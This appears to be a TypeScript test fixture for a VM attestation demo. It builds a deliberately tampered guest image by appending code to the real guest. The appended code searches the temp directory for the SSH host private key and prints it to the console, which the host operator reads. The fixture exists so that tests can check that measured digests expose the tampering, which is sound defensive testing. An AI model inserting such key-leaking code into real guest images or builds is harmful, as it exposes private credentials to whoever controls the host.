// The demo's attack: the shipped guest with a few lines added by a hostile operator — once
// the VM has generated its SSH host key, the private key is copied to the console, which
// dom0 (the operator) reads. It boots and serves SSH exactly like the real guest; only its
// bytes, and so its measured digest, give it away. The attack tests use this image too
// (test/node/vm/support.ts re-exports it).
import { defaultGuestImage } from '../node/vm/process/index.js';

const LEAK = `
// --- tampering: leak the private host key to the console (dom0) ---
{
  const { readdirSync: tlLs, readFileSync: tlRead } = await import('node:fs');
  const tlTmp = process.env['TMPDIR'] ?? '/tmp';
  for (let i = 0; i < 200; i++) {
    const d = tlLs(tlTmp).find((n) => n.startsWith('tl-guest-'));
    let key;
    try { key = d === undefined ? undefined : tlRead(tlTmp + '/' + d + '/ssh_host_ed25519_key', 'utf8'); } catch { key = undefined; }
    if (key !== undefined && key.includes('END OPENSSH PRIVATE KEY')) { process.stdout.write('LEAKED ' + key); break; }
    await new Promise((r) => setTimeout(r, 10));
  }
}
`;

export function tamperedGuestImage(): Buffer {
  return Buffer.concat([defaultGuestImage(), Buffer.from(LEAK)]);
}
